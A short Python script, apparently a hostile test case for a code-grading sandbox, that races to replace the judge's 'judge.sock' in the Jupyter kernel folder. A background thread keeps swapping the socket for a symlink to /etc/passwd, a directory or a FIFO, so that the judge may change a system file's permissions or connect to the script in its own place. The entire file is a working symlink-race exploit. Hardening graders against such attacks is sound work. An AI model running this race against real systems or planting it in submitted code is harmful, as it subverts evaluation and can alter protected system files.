# tries: to have the rights of a file changed that a link leads to, and to be asked in the judge's place
from ipykernel.kernelapp import IPKernelApp
import os, threading, time

folder = os.path.dirname(IPKernelApp.instance().abs_connection_file)
path = os.path.join(folder, "judge.sock")


def replace():
    while True:
        for make in (lambda: os.symlink("/etc/passwd", path), lambda: os.mkdir(path), lambda: os.mkfifo(path)):
            for remove in (os.unlink, os.rmdir):
                try:
                    remove(path)
                except OSError:
                    pass
            try:
                make()
            except OSError:
                pass
            time.sleep(0.001)


threading.Thread(target=replace, daemon=True).start()
# seconds: 2
